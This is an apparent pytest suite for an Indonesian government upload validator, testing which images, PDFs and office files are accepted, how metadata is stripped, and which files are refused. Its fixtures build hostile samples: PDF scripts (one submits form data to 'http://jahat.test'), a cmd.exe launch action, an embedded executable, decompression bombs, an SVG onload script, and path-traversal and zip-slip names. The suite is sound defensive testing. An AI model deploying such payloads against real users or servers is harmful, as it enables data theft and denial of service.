"""Files that strangers send: what is accepted, what it becomes, and what is refused with which words."""

import dataclasses
import io
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable

import openpyxl
import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageFile

from ppid import unggahan
from ppid.galat import AturanDilanggar
from ppid.periksa_berkas import periksa
from ppid.unggahan import MIB, PESAN, UnggahanBersih, nama_aman, periksa_unggahan, periksa_unggahan_petugas

JENIS = "Jenis berkas ini tidak diterima"
LAIN = "tidak sesuai dengan akhiran"
RUSAK = "rusak atau tidak lengkap"


def gambar(format_: str = "JPEG", *, mode: str = "RGB", ukuran: tuple[int, int] = (64, 48), **pilihan) -> bytes:
    wadah = io.BytesIO()
    Image.radial_gradient("L").resize(ukuran).convert(mode).save(wadah, format_, **pilihan)
    return wadah.getvalue()


def dokumen_sebesar(ukuran: int) -> bytes:
    """A document of exactly that many bytes."""

    def buat(panjang: int) -> bytes:
        return dokumen(lambda pdf: pdf.Root.__setattr__("Isi", pdf.make_stream(bytes(panjang))), compress_streams=False)

    kira_kira = ukuran - 2000
    return buat(kira_kira + ukuran - len(buat(kira_kira)))


def bom_gambar(lebar: int, tinggi: int) -> bytes:
    """A picture of a few bytes that claims to be that large."""

    def potongan(jenis: bytes, isi: bytes) -> bytes:
        return struct.pack(">I", len(isi)) + jenis + isi + struct.pack(">I", zlib.crc32(jenis + isi))

    kepala = struct.pack(">IIBBBBB", lebar, tinggi, 8, 2, 0, 0, 0)
    bagian = [potongan(b"IHDR", kepala), potongan(b"IDAT", zlib.compress(bytes(9999))), potongan(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(bagian)


def dokumen(isi: Callable[[pikepdf.Pdf], object] = lambda pdf: None, **pilihan) -> bytes:
    wadah = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.pages[0].obj.Contents = pdf.make_stream(b"0 0 m 100 100 l S " * 200)
        isi(pdf)
        pdf.save(wadah, **pilihan)
    return wadah.getvalue()


def skrip_saat_dibuka(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('halo')"))


def skrip_bernama(pdf: pikepdf.Pdf) -> None:
    aksi = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), aksi])))


def skrip_pada_kotak_isian(pdf: pikepdf.Pdf) -> None:
    kotak = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("nik"), Rect=[0, 0, 9, 9],
        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("this.submitForm('http://jahat.test')"))),
    )  # fmt: skip
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(kotak)]))
    pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].obj.Annots)


def formulir_xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp/>"))


def menjalankan_program(pdf: pikepdf.Pdf) -> None:
    aksi = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=aksi)])


def lampiran(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["catatan.exe"] = b"MZ\x90"


def lampiran_tempelan(pdf: pikepdf.Pdf) -> None:
    tempelan = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9])
    pdf.pages[0].obj.Annots = Array([tempelan])


def media(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])])


def aliran_meledak(pdf: pikepdf.Pdf) -> None:
    """One and a half megabytes that unfold to one and a half gigabytes."""
    pemampat = zlib.compressobj(9)
    awal = pemampat.compress(b"")
    blok = pemampat.compress(bytes(16 * MIB)) + pemampat.flush(zlib.Z_FULL_FLUSH)
    pdf.pages[0].obj.Contents = pikepdf.Stream(pdf, awal + blok * 100, Filter=Name.FlateDecode)


def kantong(**isi: str | bytes) -> bytes:
    wadah = io.BytesIO()
    with zipfile.ZipFile(wadah, "w", zipfile.ZIP_DEFLATED) as arsip:
        for nama, isinya in isi.items():
            arsip.writestr(nama, isinya)
    return wadah.getvalue()


def buku_kerja() -> bytes:
    wadah = io.BytesIO()
    buku = openpyxl.Workbook()
    buku.active.append(["TPS", "Suara"])
    buku.save(wadah)
    return wadah.getvalue()


def tambah_entri(arsip: bytes, nama: str, isi: bytes = b"") -> bytes:
    wadah = io.BytesIO(arsip)
    with zipfile.ZipFile(wadah, "a") as tujuan:
        tujuan.writestr(nama, isi)
    return wadah.getvalue()


def odf(jenis: str, *, manifes: str = "<manifest/>", **lain: str) -> bytes:
    mime = f"application/vnd.oasis.opendocument.{jenis}"
    return kantong(**{"mimetype": mime, "content.xml": "<c/>", "META-INF/manifest.xml": manifes} | lain)


def tolak(nama: str, isi: bytes, pesan: str, *, petugas: bool = False) -> None:
    with pytest.raises(AturanDilanggar, match=pesan):
        (periksa_unggahan_petugas if petugas else periksa_unggahan)(nama, isi)


@pytest.fixture
def di_tempat(monkeypatch):
    """The same checks without a process for each file; that process is tested below."""
    monkeypatch.setattr(unggahan, "_buka", lambda perintah, isi, batas: periksa(perintah, isi, batas.piksel))
    # As in the child process: whoever imports WeasyPrint in this one makes Pillow accept half a picture.
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", False)


# What is accepted


@pytest.mark.parametrize("nama", ["KTP.jpg", "KTP.JPEG", "ktp.jfif", "ktp.jpe"])
@pytest.mark.usefixtures("di_tempat")
def test_foto_jpg_diterima_apa_pun_ejaan_akhirannya(nama):
    bersih = periksa_unggahan(nama, gambar())
    assert (bersih.nama.lower(), bersih.mime) == ("ktp.jpg", "image/jpeg")
    assert Image.open(io.BytesIO(bersih.isi)).size == (64, 48)


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
@pytest.mark.usefixtures("di_tempat")
def test_png_dalam_setiap_ragam_warna_diterima(mode):
    bersih = periksa_unggahan("bukti.png", gambar("PNG", mode=mode))
    assert bersih.mime == "image/png"
    with Image.open(io.BytesIO(bersih.isi)) as hasil:
        assert (hasil.size, hasil.format) == ((64, 48), "PNG")


def test_jpg_cmyk_dari_percetakan_diterima():
    with Image.open(io.BytesIO(periksa_unggahan("akta.jpg", gambar(mode="CMYK")).isi)) as hasil:
        assert hasil.mode == "RGB"


def test_pdf_biasa_disimpan_seutuhnya():
    isi = dokumen()
    assert periksa_unggahan("surat kuasa.pdf", isi) == UnggahanBersih("surat kuasa.pdf", "application/pdf", isi)


@pytest.mark.parametrize("mode", ["generate", "disable"])
def test_pdf_dengan_tautan_dan_isian_biasa_diterima(mode):
    def isi(pdf):
        tautan = Dictionary(S=Name.URI, URI=String("https://kpu.go.id"))
        kotak = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("nama"), Rect=[0, 0, 9, 9])
        isian = pdf.make_indirect(kotak)
        pdf.pages[0].obj.Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=tautan), isian]
        )
        pdf.Root.AcroForm = Dictionary(Fields=Array([isian]))

    formulir = dokumen(isi, object_stream_mode=pikepdf.ObjectStreamMode[mode], linearize=True)
    assert periksa_unggahan("formulir.pdf", formulir).isi == formulir


def test_tepat_lima_megabita_diterima():
    assert len(periksa_unggahan("pas.pdf", dokumen_sebesar(5 * MIB)).isi) == 5 * MIB


def test_dua_puluh_lima_megapiksel_muat_dalam_batas_memori():
    isi = gambar("PNG", mode="RGBA", ukuran=(5000, 5000), compress_level=1)
    assert len(isi) < 5 * MIB
    with Image.open(io.BytesIO(periksa_unggahan("pindaian.png", isi).isi)) as hasil:
        assert hasil.size == (5000, 5000)


# What it becomes


def test_koordinat_dan_keterangan_tersembunyi_hilang_dari_foto():
    exif = Image.Exif()
    exif[0x010E] = "RAHASIA-EXIF"
    exif.get_ifd(0x8825)[2] = (7.0, 33.0, 1.5)
    isi = gambar(exif=exif, comment=b"RAHASIA-KOMENTAR", xmp=b"RAHASIA-XMP", icc_profile=b"RAHASIA-ICC" * 20)
    assert isi.count(b"RAHASIA") > 3
    bersih = periksa_unggahan("foto.jpg", isi).isi
    assert b"RAHASIA" not in bersih
    with Image.open(io.BytesIO(bersih)) as hasil:
        assert dict(hasil.getexif()) == {}
        assert not hasil.info.keys() & {"exif", "comment", "xmp", "icc_profile"}


def test_keterangan_tersembunyi_hilang_dari_png():
    from PIL.PngImagePlugin import PngInfo

    keterangan = PngInfo()
    keterangan.add_text("Author", "RAHASIA-TEKS")
    keterangan.add_itxt("XML:com.adobe.xmp", "RAHASIA-XMP")
    isi = gambar("PNG", pnginfo=keterangan, icc_profile=b"RAHASIA-ICC")
    bersih = periksa_unggahan("layar.png", isi).isi
    with Image.open(io.BytesIO(bersih)) as hasil:
        hasil.load()
        assert hasil.info == {}


def test_foto_miring_ditegakkan_sebelum_keterangannya_hilang():
    exif = Image.Exif()
    exif[0x0112] = 6
    with Image.open(io.BytesIO(periksa_unggahan("miring.jpg", gambar(exif=exif)).isi)) as hasil:
        assert hasil.size == (48, 64)


def test_foto_berganda_dari_ponsel_tinggal_gambar_pertamanya():
    isi = gambar(mode="RGB")
    wadah = io.BytesIO()
    with Image.open(io.BytesIO(isi)) as pertama, Image.open(io.BytesIO(gambar(ukuran=(30, 30)))) as kedua:
        pertama.save(wadah, "MPO", save_all=True, append_images=[kedua])
    with Image.open(io.BytesIO(periksa_unggahan("ponsel.jpg", wadah.getvalue()).isi)) as hasil:
        assert (hasil.format, hasil.size) == ("JPEG", (64, 48))


def test_arsip_yang_menempel_pada_gambar_tidak_ikut_disimpan():
    bersih = periksa_unggahan("ganda.png", gambar("PNG") + kantong(jahat="MZ")).isi
    assert not zipfile.is_zipfile(io.BytesIO(bersih))


@pytest.mark.parametrize(
    ("nama", "aman"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\siti\\Surat Kuasa.PDF", "Surat Kuasa.pdf"),
        ("foto\u202egpj.pdf", "foto gpj.pdf"),
        ("a\x00b\r\nc.pdf", "a b c.pdf"),
        ('<b>"x"?|*.pdf', "b--x.pdf"),
        (".pdf", "pdf.pdf"),
        ("....pdf", "berkas.pdf"),
        ("\u200b\u2066.pdf", "berkas.pdf"),
        ("KTP 3517014107900001.pdf", "KTP.pdf"),
        ("3517 0141 0790 0001 scan.pdf", "scan.pdf"),
        ("Hasil 2024-02-14 2024-03-20.pdf", "Hasil 2024-02-14 2024-03-20.pdf"),
        ("Surat Keterangan “Domisili” – Jombang.pdf", "Surat Keterangan “Domisili” – Jombang.pdf"),
        ("x" * 200 + ".pdf", "x" * 80 + ".pdf"),
    ],
)
def test_nama_berkas_dibersihkan(nama, aman):
    assert nama_aman(nama, "pdf") == aman


# What is refused


@pytest.mark.parametrize(
    "nama", ["gambar.svg", "laman.html", "foto.heic", "arsip.zip", "data.xlsx", "tanpa", "foto.", ""]
)
def test_jenis_lain_ditolak_dengan_menyebut_yang_diterima(nama):
    tolak(nama, b"<svg/>", f"{JENIS}. Unggah foto JPG atau PNG, atau PDF")


@pytest.mark.parametrize("nama", ["foto.jpg", "foto.png", "surat.pdf"])
@pytest.mark.parametrize(
    "isi",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<!doctype html><script>alert(1)</script>",
        b"MZ\x90\x00" + bytes(200),
        kantong(jahat="MZ"),
        gambar("GIF"),
        b"x",
    ],
    ids=["svg", "html", "exe", "zip", "gif", "satu-bita"],
)
@pytest.mark.usefixtures("di_tempat")
def test_akhiran_benar_isi_lain_ditolak(nama, isi):
    tolak(nama, isi, LAIN)


@pytest.mark.usefixtures("di_tempat")
def test_isi_benar_akhiran_lain_ditolak():
    tolak("foto.png", gambar("JPEG"), LAIN)
    tolak("foto.jpg", gambar("PNG"), LAIN)
    tolak("foto.jpg", dokumen(), LAIN)
    tolak("surat.pdf", gambar("PNG"), LAIN)
    tolak("surat.exe", dokumen(), JENIS)


def test_lebih_dari_lima_megabita_ditolak():
    tolak("besar.pdf", dokumen_sebesar(5 * MIB + 1), "lebih dari 5 MB")


@pytest.mark.parametrize("nama", ["kosong.jpg", "kosong.png", "kosong.pdf"])
def test_berkas_kosong_ditolak(nama):
    tolak(nama, b"", "kosong")


@pytest.mark.parametrize(
    ("nama", "isi"),
    [("a.jpg", gambar(ukuran=(600, 400))), ("a.png", gambar("PNG", ukuran=(600, 400))), ("a.pdf", dokumen())],
    ids=["jpg", "png", "pdf"],
)
@pytest.mark.parametrize("bagian", [0.3, 0.6, 0.95])
@pytest.mark.usefixtures("di_tempat")
def test_berkas_terpotong_ditolak(nama, isi, bagian):
    tolak(nama, isi[: int(len(isi) * bagian)], RUSAK)


@pytest.mark.usefixtures("di_tempat")
def test_pdf_yang_daftar_isinya_tidak_cocok_ditolak():
    tolak("a.pdf", dokumen().replace(b"startxref\n", b"startxref\n9"), RUSAK)


@pytest.mark.usefixtures("di_tempat")
def test_pdf_tanpa_halaman_ditolak():
    tolak("a.pdf", dokumen(lambda pdf: pdf.pages.__delitem__(0)), RUSAK)


@pytest.mark.parametrize(
    ("isi", "kode"),
    [
        (skrip_saat_dibuka, "skrip"),
        (skrip_bernama, "skrip"),
        (skrip_pada_kotak_isian, "skrip"),
        (formulir_xfa, "skrip"),
        (menjalankan_program, "jalankan"),
        (lampiran, "sisipan"),
        (lampiran_tempelan, "sisipan"),
        (media, "media"),
    ],
)
@pytest.mark.parametrize("mode", ["generate", "disable"])
@pytest.mark.usefixtures("di_tempat")
def test_pdf_yang_dapat_berbuat_sesuatu_ditolak(isi, kode, mode):
    """In object streams, too, where a search through the bytes would find nothing."""
    tolak("a.pdf", dokumen(isi, object_stream_mode=pikepdf.ObjectStreamMode[mode]), PESAN[kode])


@pytest.mark.usefixtures("di_tempat")
def test_nama_kunci_yang_disamarkan_tetap_terbaca():
    isi = dokumen(skrip_saat_dibuka).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")
    assert b"JavaScript" not in isi
    with pytest.raises(AturanDilanggar):
        periksa_unggahan("a.pdf", isi)


@pytest.mark.parametrize("sandi", [{"user": "rahasia", "owner": "rahasia"}, {"user": "", "owner": "rahasia"}])
@pytest.mark.usefixtures("di_tempat")
def test_pdf_terkunci_ditolak(sandi):
    tolak("a.pdf", dokumen(encryption=pikepdf.Encryption(**sandi)), "terkunci kata sandi")


@pytest.mark.parametrize("awalan", [b"GIF89a", b"<html>", b"\n"])
@pytest.mark.usefixtures("di_tempat")
def test_pdf_yang_didahului_isi_lain_ditolak(awalan):
    tolak("a.pdf", awalan + dokumen(), LAIN)


@pytest.mark.usefixtures("di_tempat")
def test_pdf_yang_diikuti_arsip_ditolak():
    tolak("a.pdf", dokumen() + kantong(jahat="MZ"), RUSAK)
    tolak("a.pdf", dokumen() + kantong(jahat="MZ") + b"%%EOF", PESAN["isi-ganda"])


@pytest.mark.parametrize("sisi", [(5001, 5000), (40_000, 40_000)])
def test_bom_gambar_ditolak_sebelum_dibuka(sisi):
    tolak("bom.png", bom_gambar(*sisi), "paling luas 25 megapiksel")


def test_bom_dalam_pdf_berhenti_pada_batas_memori():
    isi = dokumen(aliran_meledak, compress_streams=False)
    assert len(isi) < 5 * MIB
    tolak("bom.pdf", isi, "terlalu berat untuk diperiksa")


# The child process


def test_pemeriksa_yang_macet_dihentikan(monkeypatch):
    monkeypatch.setattr(unggahan, "WARGA", dataclasses.replace(unggahan.WARGA, detik=0.01))
    tolak("a.pdf", dokumen(), "terlalu berat untuk diperiksa")


@pytest.mark.parametrize("batas", [{"detik_cpu": 0}, {"memori": 8 * MIB}])
def test_pemeriksa_yang_melewati_jatahnya_dimatikan(monkeypatch, batas):
    monkeypatch.setattr(unggahan, "WARGA", dataclasses.replace(unggahan.WARGA, **batas))
    tolak("a.png", gambar("PNG", ukuran=(4000, 4000)), "terlalu berat untuk diperiksa")


def test_pemeriksa_tidak_dapat_menulis_berkas(tmp_path):
    """So nothing of a paper is ever left in a temporary directory."""
    program = (
        "import sys; from ppid.periksa_berkas import batasi; batasi(1 << 29, 5)\n"
        "with open(sys.argv[1], 'wb') as berkas: berkas.write(b'NIK')"
    )
    anak = subprocess.run([sys.executable, "-c", program, tmp_path / "sisa"], capture_output=True, text=True)
    assert "File too large" in anak.stderr
    assert (tmp_path / "sisa").read_bytes() == b""


def test_pemeriksa_tidak_mengenal_django_maupun_rahasia():
    program = unggahan.ANAK.read_text()
    assert "django" not in program.replace("Django", "").lower()
    assert "import ppid" not in program
    assert "environ" not in program


def test_setiap_pesan_mengatakan_apa_yang_harus_dilakukan():
    for pesan in PESAN.values():
        assert any(kata in pesan.lower() for kata in ("unggah", "simpan ulang")), pesan


# Officers


@pytest.mark.parametrize(
    ("nama", "isi", "mime"),
    [
        ("hasil.xlsx", buku_kerja(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("hasil.ods", odf("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
        ("surat.odt", odf("text"), "application/vnd.oasis.opendocument.text"),
        ("data.csv", "TPS;Suara\r\n001;214\r\n".encode("utf-8-sig"), "text/csv"),
        ("data.csv", "Désa;Suara\n".encode("cp1252"), "text/csv"),
        ("catatan.txt", b"Berita acara\tpleno\n", "text/plain"),
        ("foto.jpg", gambar(comment=b"asli"), "image/jpeg"),
        ("peta.png", gambar("PNG"), "image/png"),
        ("keputusan.pdf", dokumen(), "application/pdf"),
    ],
    ids=lambda nilai: nilai if isinstance(nilai, str) and "." in nilai[-5:] else "",
)
def test_berkas_petugas_disimpan_seutuhnya(nama, isi, mime):
    assert periksa_unggahan_petugas(nama, isi) == UnggahanBersih(nama, mime, isi)


def test_naskah_word_diterima():
    utama = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    isi = kantong(**{"[Content_Types].xml": f"<Types ContentType='{utama}'/>", "word/document.xml": "<d/>"})
    assert periksa_unggahan_petugas("surat.docx", isi).isi == isi


@pytest.mark.parametrize(
    ("nama", "isi", "pesan"),
    [
        ("buku.xlsm", buku_kerja(), JENIS),
        ("arsip.zip", kantong(a="b"), JENIS),
        ("laman.html", b"<html>", JENIS),
        ("buku.xlsx", tambah_entri(buku_kerja(), "xl/vbaProject.bin"), "makro"),
        ("buku.xlsx", tambah_entri(buku_kerja(), "xl/activeX/activeX1.xml"), "makro"),
        ("buku.xlsx", tambah_entri(buku_kerja(), "../keluar.xml"), RUSAK),
        ("buku.xlsx", buku_kerja()[:-200], RUSAK),
        ("buku.xlsx", kantong(a="b"), LAIN),
        ("surat.docx", buku_kerja(), LAIN),
        ("buku.ods", odf("text"), LAIN),
        ("buku.ods", odf("spreadsheet", **{"Basic/Standard/Modul.xml": ""}), "makro"),
        ("buku.ods", odf("spreadsheet", manifes="<manifest:encryption-data/>"), "terkunci"),
        ("data.csv", b"PK\x03\x04" + bytes(90), LAIN),
        ("data.csv", gambar("PNG"), LAIN),
        ("data.txt", b"a\x00b", LAIN),
        ("keputusan.pdf", dokumen(lampiran), "lampiran"),
        ("foto.jpg", gambar("PNG"), LAIN),
        ("foto.jpg", gambar()[:400], RUSAK),
    ],
)
@pytest.mark.usefixtures("di_tempat")
def test_berkas_petugas_yang_berbahaya_atau_rusak_ditolak(nama, isi, pesan):
    tolak(nama, isi, pesan, petugas=True)


def test_petugas_boleh_lebih_dari_lima_megabita_tetapi_tidak_dua_ratus():
    assert len(periksa_unggahan_petugas("besar.pdf", dokumen_sebesar(6 * MIB)).isi) == 6 * MIB
    tolak("raksasa.pdf", bytes(200 * MIB + 1), "lebih dari 200 MB", petugas=True)
